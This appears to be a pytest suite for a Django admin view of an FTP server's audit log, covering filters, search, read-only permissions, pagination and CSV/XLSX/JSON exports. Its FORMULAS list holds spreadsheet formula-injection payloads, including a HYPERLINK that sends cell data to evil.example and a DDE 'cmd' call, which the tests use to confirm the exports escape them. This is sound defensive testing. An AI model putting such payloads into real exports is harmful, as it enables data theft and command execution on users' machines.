"""The audit trail in the admin: columns, filters, search, read-only, exports."""

import csv
import datetime
import io
import json

import openpyxl
import pytest
from django.contrib.admin.templatetags.admin_list import date_hierarchy
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from ftpadmin.admin import AuditEventAdmin
from ftpadmin.date_hierarchy import date_hierarchy_context
from ftpadmin.paginators import CappedCountPaginator
from ftpadmin.resources import AuditEventResource
from ftpserver_core.models import AuditEvent, FTPUserGroup

UTC = datetime.UTC
T0 = datetime.datetime(2026, 3, 14, 12, 0, tzinfo=UTC)
CHANGELIST = reverse("admin:ftpserver_core_auditevent_changelist")
EXPORT = reverse("admin:ftpserver_core_auditevent_export")
EXPORT_FIELDS = AuditEventResource().get_export_order()
# The export form's choices, by position: see AuditEventAdmin.export_formats.
CSV_FORMAT, EXCEL_CSV_FORMAT, XLSX_FORMAT, JSON_FORMAT = "0", "1", "2", "3"


def event(**fields):
    defaults = {
        "time": T0,
        "event": "login",
        "username": "alice",
        "group": "staff",
        "remote_ip": "192.0.2.10",
        "remote_port": 50000,
        "session_id": "a1" * 16,
        "tls": True,
        "node": "ftp1",
    }
    return AuditEvent(**(defaults | fields))


@pytest.fixture
def rows(db):
    """Six records over two years: two sessions, a failure, a rename, transfers."""
    FTPUserGroup.objects.create(name="staff")
    FTPUserGroup.objects.create(name="guests")
    alice, bob, mallory = "a1" * 16, "b2" * 16, "c3" * 16
    created = AuditEvent.objects.bulk_create(
        [
            event(time=T0, event="login", session_id=alice),
            event(
                time=T0 + datetime.timedelta(minutes=1),
                event="upload",
                session_id=alice,
                ftp_path="/in/report.pdf",
                path="/srv/ftp/alice/in/report.pdf",
                size=123_456,
                duration=0.25,
                sha256="5e" * 32,
            ),
            event(
                time=T0 + datetime.timedelta(minutes=2),
                event="rename",
                session_id=alice,
                ftp_path="/in/report.pdf",
                ftp_path_to="/in/final.pdf",
            ),
            event(
                time=T0 + datetime.timedelta(days=1),
                event="download",
                username="bob",
                group="guests",
                remote_ip="198.51.100.7",
                session_id=bob,
                tls=False,
                ftp_path="/pub/readme.txt",
                size=42,
                duration=0.01,
            ),
            event(
                time=datetime.datetime(2026, 2, 3, 8, 0, tzinfo=UTC),
                event="login_failed",
                username="mallory",
                group="",
                remote_ip="203.0.113.66",
                session_id=mallory,
                tls=False,
                success=False,
                reason="bad_credentials",
            ),
            event(
                time=datetime.datetime(2025, 12, 31, 23, 0, tzinfo=UTC),
                event="upload_incomplete",
                username="bob",
                group="retired",
                remote_ip="2001:db8::7",
                session_id="d4" * 16,
                tls=False,
                ftp_path="/in/big file.iso",
                size=10_000,
                duration=3.0,
            ),
        ]
    )
    names = ["login", "upload", "rename", "download", "failed", "incomplete"]
    return dict(zip(names, created, strict=True))


def ids(response):
    assert response.status_code == 200, response.status_code
    return {obj.pk for obj in response.context["cl"].result_list}


def pks(rows, *names):
    return {rows[name].pk for name in names}


@pytest.fixture
def staff_client(client, db):
    """A logged-in staff user without any permission."""
    user = get_user_model().objects.create_user("clerk", password="x", is_staff=True)
    client.force_login(user)
    client.user = user
    return client


@pytest.fixture
def viewer_client(staff_client):
    """A staff user whose only permission is to view audit events."""
    staff_client.user.user_permissions.add(
        Permission.objects.get(codename="view_auditevent")
    )
    return staff_client


# The changelist ---------------------------------------------------------------


def test_changelist_shows_the_columns(admin_client, rows):
    response = admin_client.get(CHANGELIST)
    assert ids(response) == pks(rows, *rows)
    html = response.content.decode()
    for header in ("Time", "Event", "User", "Client IP", "Path", "Bytes", "Result"):
        assert f">{header}<" in html or f">{header}</a>" in html, header
    assert "/in/report.pdf &rarr; /in/final.pdf" in html
    assert "bad_credentials" in html
    assert "123456" in html or "123,456" in html
    assert f'href="?session_id={"a1" * 16}"' in html
    assert 'href="?username=mallory"' in html
    # Sorting by time only (the index), either way.
    assert 'href="?o=1"' in html
    assert 'href="?o=6"' not in html
    oldest = admin_client.get(CHANGELIST + "?o=1").context["cl"].result_list
    assert oldest[0].pk == rows["incomplete"].pk


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("event__exact=upload", ["upload"]),
        ("event__exact=login_failed", ["failed"]),
        ("success__exact=0", ["failed"]),
        ("success__exact=1", ["login", "upload", "rename", "download", "incomplete"]),
        ("tls__exact=1", ["login", "upload", "rename"]),
        ("tls__exact=0", ["download", "failed", "incomplete"]),
        ("group=staff", ["login", "upload", "rename"]),
        ("group=guests", ["download"]),
        ("time__year=2025", ["incomplete"]),
        ("time__year=2026&time__month=2", ["failed"]),
        ("time__year=2026&time__month=3&time__day=15", ["download"]),
        ("q=mallory", ["failed"]),
        ("q=198.51.100.7", ["download"]),
        ("q=2001:db8::7", ["incomplete"]),
        ("q=readme", ["download"]),
        ("q=final.pdf", []),  # the rename target is shown, not searched
        ("q=report.pdf", ["upload", "rename"]),
        ("q=bob readme", ["download"]),
        ("q=198.51.", ["download"]),
        ("q=db8:", ["incomplete"]),
        ('q="big file"', ["incomplete"]),
        ("q=192.0.2.1", []),  # a whole address matches whole addresses only
        ("username=bob", ["download", "incomplete"]),
        ("event__exact=upload&tls__exact=0", []),
    ],
)
def test_each_filter_and_the_search_narrow_the_rows(
    admin_client, rows, query, expected
):
    assert ids(admin_client.get(f"{CHANGELIST}?{query}")) == pks(rows, *expected)


def test_group_filter_lists_the_groups_table_not_the_audit_rows(admin_client, rows):
    cl = admin_client.get(CHANGELIST).context["cl"]
    (spec,) = [s for s in cl.filter_specs if s.title == "group"]
    assert spec.lookup_choices == [("guests", "guests"), ("staff", "staff")]
    # A group that exists only in old audit rows still filters by its URL.
    assert ids(admin_client.get(f"{CHANGELIST}?group=retired")) == pks(
        rows, "incomplete"
    )


def test_session_link_shows_the_whole_session(admin_client, rows):
    html = admin_client.get(CHANGELIST).content.decode()
    link = f"?session_id={'a1' * 16}"
    assert f'href="{link}"' in html
    response = admin_client.get(CHANGELIST + link)
    assert ids(response) == pks(rows, "login", "upload", "rename")
    assert response.context["cl"].has_active_filters
    assert "Clear all filters" in response.content.decode()


def test_the_detail_page_is_read_only_and_links_its_session(admin_client, rows):
    url = reverse("admin:ftpserver_core_auditevent_change", args=[rows["upload"].pk])
    response = admin_client.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    assert 'name="_save"' not in html
    assert f"{CHANGELIST}?session_id={'a1' * 16}" in html
    assert "/srv/ftp/alice/in/report.pdf" in html


def test_no_add_change_or_delete(admin_client, rows):
    upload = rows["upload"]
    add = reverse("admin:ftpserver_core_auditevent_add")
    change = reverse("admin:ftpserver_core_auditevent_change", args=[upload.pk])
    delete = reverse("admin:ftpserver_core_auditevent_delete", args=[upload.pk])
    assert admin_client.get(add).status_code == 403
    assert admin_client.post(add, {"event": "login"}).status_code == 403
    assert admin_client.post(change, {"username": "eve"}).status_code == 403
    assert admin_client.get(delete).status_code == 403
    assert admin_client.post(delete, {"post": "yes"}).status_code == 403
    response = admin_client.get(CHANGELIST)
    actions = [
        name for name, _ in response.context["action_form"].fields["action"].choices
    ]
    assert actions == ["", "export_admin_action"]
    admin_client.post(
        CHANGELIST,
        {
            "action": "delete_selected",
            "_selected_action": [upload.pk],
            "index": "0",
            "post": "yes",
        },
    )
    upload.refresh_from_db()
    assert upload.username == "alice"
    assert AuditEvent.objects.count() == len(rows)
    assert add not in response.content.decode()


def test_staff_without_the_view_permission_is_refused(staff_client, rows):
    assert staff_client.get(CHANGELIST).status_code == 403
    assert staff_client.get(EXPORT).status_code == 403
    assert staff_client.post(EXPORT, {"format": "0"}).status_code == 403
    url = reverse("admin:ftpserver_core_auditevent_change", args=[rows["upload"].pk])
    assert staff_client.get(url).status_code == 403
    assert (
        reverse("ftpadmin:transfers")
        not in staff_client.get(reverse("admin:index")).content.decode()
    )


def test_the_view_permission_is_enough_to_read(viewer_client, rows):
    assert ids(viewer_client.get(CHANGELIST)) == pks(rows, *rows)
    assert viewer_client.get(EXPORT).status_code == 200
    assert (
        reverse("ftpadmin:transfers")
        in viewer_client.get(reverse("admin:index")).content.decode()
    )


def test_anonymous_is_sent_to_the_login_page(client, rows):
    response = client.get(CHANGELIST)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


# Queries and the large-table helpers -------------------------------------------


def _changelist_queries(client, query=""):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(CHANGELIST + query)
    assert response.status_code == 200
    return len(response.context["cl"].result_list), len(queries)


@pytest.mark.parametrize("query", ["", "?event__exact=upload", "?q=alice"])
def test_no_query_per_row(admin_client, db, query, django_assert_max_num_queries):
    FTPUserGroup.objects.create(name="staff")
    day = datetime.datetime(2026, 5, 5, 10, 0, tzinfo=UTC)

    def add(n, start):
        AuditEvent.objects.bulk_create(
            event(
                time=day + datetime.timedelta(seconds=start + i),
                event="upload",
                session_id=f"{start + i:032x}",
                ftp_path=f"/f{start + i}",
                size=i,
            )
            for i in range(n)
        )

    add(5, 0)
    shown5, queries5 = _changelist_queries(admin_client, query)
    add(45, 5)
    shown50, queries50 = _changelist_queries(admin_client, query)
    assert (shown5, shown50) == (5, 50)
    assert 3 < queries5 == queries50
    with django_assert_max_num_queries(12):
        admin_client.get(CHANGELIST + query)


@pytest.mark.parametrize("per_page", [100, 2])
@pytest.mark.parametrize(
    "query",
    [
        "",
        "?time__year=2026",
        "?time__year=2025",
        "?time__year=2026&time__month=3",
        "?time__year=2026&time__month=3&time__day=14",
        "?event__exact=download",
        "?q=bob",
        "?q=nothing-matches",
        "?time__year=2024",
    ],
)
def test_date_hierarchy_matches_djangos(
    admin_client, rows, query, per_page, monkeypatch
):
    """Our drill-down gives exactly the links of Django's own, from the rows of
    a page that holds them all (100 a page) or from index seeks (2 a page)."""
    monkeypatch.setattr(AuditEventAdmin, "list_per_page", per_page)
    cl = admin_client.get(CHANGELIST + query).context["cl"]
    ours = date_hierarchy_context(cl)
    assert ours == date_hierarchy(cl)
    if query == "":
        assert [c["title"] for c in ours["choices"]] == ["2025", "2026"]
    if query == "?time__year=2026":
        assert [c["link"] for c in ours["choices"]] == [
            "?time__month=2&time__year=2026",
            "?time__month=3&time__year=2026",
        ]


@pytest.mark.parametrize("per_page", [100, 2])
def test_date_hierarchy_queries(admin_client, rows, per_page, monkeypatch):
    """A page that holds every row costs no query for the drill-down."""
    monkeypatch.setattr(AuditEventAdmin, "list_per_page", per_page)
    cl = admin_client.get(CHANGELIST).context["cl"]
    list(cl.result_list)
    with CaptureQueriesContext(connection) as queries:
        date_hierarchy_context(cl)
    # Seeks: first, last, then one per year with rows and one past the last.
    assert len(queries) == (0 if per_page == 100 else 2 + 2 + 1)


def test_date_hierarchy_starts_at_the_only_month(admin_client, rows):
    AuditEvent.objects.exclude(time__year=2026, time__month=3).delete()
    cl = admin_client.get(CHANGELIST).context["cl"]
    ours = date_hierarchy_context(cl)
    assert ours == date_hierarchy(cl)
    assert [c["title"] for c in ours["choices"]] == ["March 14", "March 15"]


def test_date_hierarchy_is_rendered_from_index_seeks(admin_client, rows):
    html = admin_client.get(f"{CHANGELIST}?time__year=2026").content.decode()
    assert 'href="?time__month=3&amp;time__year=2026"' in html
    assert "time__month=1&" not in html


def test_count_is_capped(admin_client, rows, monkeypatch):
    monkeypatch.setattr(CappedCountPaginator, "cap", 4)
    monkeypatch.setattr(AuditEventAdmin, "list_per_page", 2)
    response = admin_client.get(CHANGELIST)
    cl = response.context["cl"]
    assert cl.result_count == 4
    assert cl.paginator.capped
    assert cl.paginator.num_pages == 2
    assert len(cl.result_list) == 2
    html = response.content.decode()
    assert "more than 4 audit events" in html
    assert "more than 4 results" in html
    # The last page within the cap; past it, Django's invalid-page redirect.
    assert len(admin_client.get(CHANGELIST + "?p=2").context["cl"].result_list) == 2
    assert admin_client.get(CHANGELIST + "?p=3").status_code == 302
    # Under the cap the count is exact and says so.
    response = admin_client.get(CHANGELIST + "?tls__exact=1")
    assert response.context["cl"].result_count == 3
    assert not response.context["cl"].paginator.capped
    assert "more than" not in response.content.decode()


def test_capped_paginator_counts_exactly_below_the_cap(rows):
    queryset = AuditEvent.objects.all()
    exact = CappedCountPaginator(queryset, 2, cap=10)
    assert (exact.count, exact.capped, exact.num_pages) == (6, False, 3)
    capped = CappedCountPaginator(queryset, 2, cap=5)
    assert (capped.count, capped.capped, capped.num_pages) == (5, True, 3)


# Exports --------------------------------------------------------------------------


def _export(client, query="", fmt=CSV_FORMAT, items=None):
    data = {"format": fmt, "resource": "0"}
    data |= {f"auditeventresource_{name}": "on" for name in EXPORT_FIELDS}
    if items is not None:
        data["export_items"] = [str(pk) for pk in items]
    response = client.post(f"{EXPORT}?{query}" if query else EXPORT, data)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment;")
    return response


def _expected(obj):
    """A record as the exports must show it: ISO times, sizes in bytes."""
    return {
        "id": obj.pk,
        "time": obj.time.isoformat(),
        "event": obj.event,
        "username": obj.username,
        "account_id": obj.account_id,
        "group": obj.group,
        "remote_ip": obj.remote_ip,
        "remote_port": obj.remote_port,
        "session_id": obj.session_id,
        "ftp_path": obj.ftp_path,
        "path": obj.path,
        "ftp_path_to": obj.ftp_path_to,
        "path_to": obj.path_to,
        "size": obj.size,
        "duration": obj.duration,
        "success": obj.success,
        "reason": obj.reason,
        "tls": obj.tls,
        "node": obj.node,
        "sha256": obj.sha256,
        "network": obj.network,
    }


def _db_rows(**filters):
    return [_expected(obj) for obj in AuditEvent.objects.filter(**filters)]


def _from_csv(text):
    records = list(csv.DictReader(io.StringIO(text)))
    for r in records:
        r["id"] = int(r["id"])
        for key in ("account_id", "remote_port", "size"):
            r[key] = int(r[key]) if r[key] else None
        r["duration"] = float(r["duration"]) if r["duration"] else None
        for key in ("success", "tls"):
            assert r[key] in ("True", "False")
            r[key] = r[key] == "True"
        r["remote_ip"] = r["remote_ip"] or None
    return records


def test_export_csv_honours_filters(admin_client, rows):
    response = _export(admin_client, "tls__exact=0&q=bob")
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    assert text.splitlines()[0].split(",") == list(EXPORT_FIELDS)
    assert _from_csv(text) == _db_rows(tls=False, username="bob")
    assert "2025-12-31T23:00:00+00:00" in text


def test_export_csv_unfiltered_is_every_row(admin_client, rows):
    records = _from_csv(_export(admin_client).content.decode())
    assert records == _db_rows()
    assert {r["size"] for r in records} == {None, 123_456, 42, 10_000}


def test_export_xlsx(admin_client, rows):
    response = _export(admin_client, "time__year=2026&time__month=3", fmt=XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *data = [[c.value for c in row] for row in sheet.iter_rows()]
    # Labelled for people; the cells in the order of the fields.
    assert header == [AuditEventResource.field_label(f) for f in EXPORT_FIELDS]
    records = [dict(zip(EXPORT_FIELDS, values, strict=True)) for values in data]
    for r in records:
        # A date-time cell, in TIME_ZONE (UTC here).
        r["time"] = r["time"].replace(tzinfo=UTC).isoformat()
        for key in ("username", "group", "session_id", "ftp_path", "path"):
            r[key] = r[key] or ""
        for key in ("ftp_path_to", "path_to", "reason", "node", "sha256", "network"):
            r[key] = r[key] or ""
    assert records == _db_rows(time__year=2026, time__month=3)
    assert all(isinstance(r["size"], int) for r in records if r["size"] is not None)


def test_export_xlsx_keeps_formulas_as_text(admin_client, db):
    AuditEvent.objects.bulk_create(
        [event(event="upload", ftp_path='=HYPERLINK("http://example.invalid")')]
    )
    response = _export(admin_client, fmt=XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Path") + 1)
    assert cell.value == '=HYPERLINK("http://example.invalid")'
    assert cell.data_type == "s"


def test_export_json(admin_client, rows):
    response = _export(admin_client, "event__exact=upload_incomplete", fmt=JSON_FORMAT)
    assert json.loads(response.content) == _db_rows(event="upload_incomplete")
    response = _export(admin_client, "success__exact=0", fmt=JSON_FORMAT)
    (record,) = json.loads(response.content)
    assert record["reason"] == "bad_credentials"
    assert record["success"] is False


def test_export_selected_action(admin_client, rows):
    chosen = pks(rows, "upload", "failed")
    response = admin_client.post(
        CHANGELIST,
        {
            "action": "export_admin_action",
            "_selected_action": sorted(chosen),
            "index": "0",
        },
    )
    assert response.status_code == 200
    form = response.context["form"]
    assert sorted(int(pk) for pk in form.initial["export_items"]) == sorted(chosen)
    records = _from_csv(_export(admin_client, items=chosen).content.decode())
    assert {r["id"] for r in records} == chosen
    assert records == [r for r in _db_rows() if r["id"] in chosen]


def test_export_selected_cannot_reach_rows_outside_the_filters(admin_client, rows):
    # Posted ids outside the changelist's queryset fail validation.
    data = {"format": "0", "export_items": ["999999"]}
    data |= {f"auditeventresource_{name}": "on" for name in EXPORT_FIELDS}
    response = admin_client.post(EXPORT, data)
    assert response.status_code == 200
    assert "export_items" in response.context["form"].errors


def test_export_selected_across_pages_uses_the_filters(admin_client, rows):
    response = admin_client.post(
        f"{CHANGELIST}?tls__exact=1",
        {
            "action": "export_admin_action",
            "_selected_action": [rows["login"].pk],
            "select_across": "1",
            "index": "0",
        },
    )
    assert response.status_code == 302
    assert response["Location"] == f"{EXPORT}?tls__exact=1"
    records = _from_csv(_export(admin_client, "tls__exact=1").content.decode())
    assert {r["id"] for r in records} == pks(rows, "login", "upload", "rename")


def test_export_refuses_more_rows_than_its_limit(admin_client, rows, monkeypatch):
    monkeypatch.setattr(AuditEventAdmin, "export_max_rows", 5)
    data = {"format": "0"}
    data |= {f"auditeventresource_{name}": "on" for name in EXPORT_FIELDS}
    response = admin_client.post(EXPORT, data)
    assert response.status_code == 200
    assert "Content-Disposition" not in response
    assert "More than 5 audit events match" in response.content.decode()
    assert len(_from_csv(_export(admin_client, "tls__exact=0").content.decode())) == 3


def test_resource_is_export_only(rows):
    with pytest.raises(NotImplementedError):
        AuditEventResource().import_data(None)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


def test_export_csv_escapes_formulas_that_a_client_chose(admin_client, db):
    # Anyone who reaches the port chooses a failed login's username.
    AuditEvent.objects.bulk_create(
        [event(event="login_failed", username=name, success=False) for name in FORMULAS]
        + [event(event="login_failed", username="plain-name", success=False)]
    )
    response = _export(admin_client, fmt=CSV_FORMAT)
    records = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["username"] for r in records) == sorted(
        ["'" + name for name in FORMULAS] + ["plain-name"]
    )
    # Nothing a spreadsheet would run is left.
    for r in records:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), r


def test_transfers_csv_escapes_formulas_that_a_client_chose(admin_client, db):
    from ftpadmin import exports

    AuditEvent.objects.bulk_create(
        [
            event(event="upload", username=name, group="@g", ftp_path="/x", size=1)
            for name in FORMULAS
        ]
    )
    text = "".join(exports.csv_lines(AuditEvent.objects.order_by("id")))
    records = list(csv.DictReader(io.StringIO(text)))
    assert [r["username"] for r in records] == ["'" + name for name in FORMULAS]
    assert {r["group"] for r in records} == {"'@g"}
    assert {r["ftp_path"] for r in records} == {"/x"}
